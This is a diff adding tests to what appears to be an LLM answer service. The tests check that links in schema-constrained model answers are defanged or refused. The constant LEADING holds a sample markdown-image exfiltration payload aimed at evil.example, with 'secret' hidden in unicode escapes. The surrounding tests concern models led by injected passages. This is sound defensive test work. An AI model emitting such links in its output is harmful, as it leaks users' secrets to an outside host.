@@ -303,6 +303,35 @@ async def test_an_answer_leads_nowhere_that_the_run_has_not_been(asked: Asked, k
     )
 
 
+FIELDS = {"type": "object", "properties": {"a": {"type": "string"}, "n": {"type": "number"}}}
+LEADING = '{ "a": "see ![x](https://evil.example/?q=\\u0073ecret) of \\u0068ttps://evil.example", "n": 1.50}'
+
+
+async def test_the_strings_of_an_answer_by_a_schema_lead_nowhere_either(asked: Asked) -> None:
+    run = await asked.run({"text": LEADING}, response_schema=FIELDS)
+    clean = "see ![x] (https[:]//evil.example/?q=secret) of https[:]//evil.example"
+    assert run["answer"] == f'{{ "a": "{clean}", "n": 1.50}}'
+    kept = (await asked.author.ask("GET", f"/runs/{run['run_id']}")).json()
+    assert kept["answer"] == run["answer"]
+    as_it_is = await asked.run({"text": LEADING}, response_schema=FIELDS, clean_strings=False)
+    assert as_it_is["answer"] == LEADING
+
+
+async def test_an_address_of_the_schema_stays_in_an_answer_that_follows_it(asked: Asked) -> None:
+    schema = {"type": "object", "properties": {"a": {"enum": ["https://ours.example/one"]}}}
+    run = await asked.run({"text": '{"a": "https://ours.example/one"}'}, response_schema=schema)
+    assert json.loads(run["answer"]) == {"a": "https://ours.example/one"}
+
+
+async def test_an_answer_that_follows_its_schema_only_with_an_address_is_refused(asked: Asked) -> None:
+    schema = {"type": "object", "properties": {"a": {"type": "string", "maxLength": 20}}}
+    refused = await asked.refused({"text": '{"a": "https://evil.example"}'}, response_schema=schema)
+    problem = refused.json()
+    assert (refused.status_code, problem["type"]) == (422, "invalid-answer")
+    assert problem["answer"] == '{"a": "https[:]//evil.example"}'
+    assert problem["violations"][0].startswith("$.a")
+
+
 async def test_a_model_that_obeys_what_a_passage_says_reaches_nothing_else(
     asked: Asked, knowledge: Knowledge, search_database: Database
 ) -> None:
